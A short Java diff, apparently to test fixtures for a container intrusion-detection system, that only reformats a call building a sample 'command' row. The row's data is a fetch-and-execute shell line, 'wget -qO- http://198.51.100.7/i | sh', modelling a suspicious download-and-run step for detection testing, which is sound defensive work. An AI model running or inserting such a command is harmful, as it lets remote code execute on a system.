@@ -138,7 +138,11 @@ final class ContainerDetectionRows {
                                 .with(Link.PLACE, reported(NEXT_DAY, POD, SUBJECT, ADDRESS))
                                 .with(
                                         Link.COMMAND,
-                                        run(NEXT_DAY.plusSeconds(5), "bash", "-c", "wget -qO- http://198.51.100.7/i | sh")));
+                                        run(
+                                                NEXT_DAY.plusSeconds(5),
+                                                "bash",
+                                                "-c",
+                                                "wget -qO- http://198.51.100.7/i | sh")));
     }
 
     private static Row reachedInScope() {
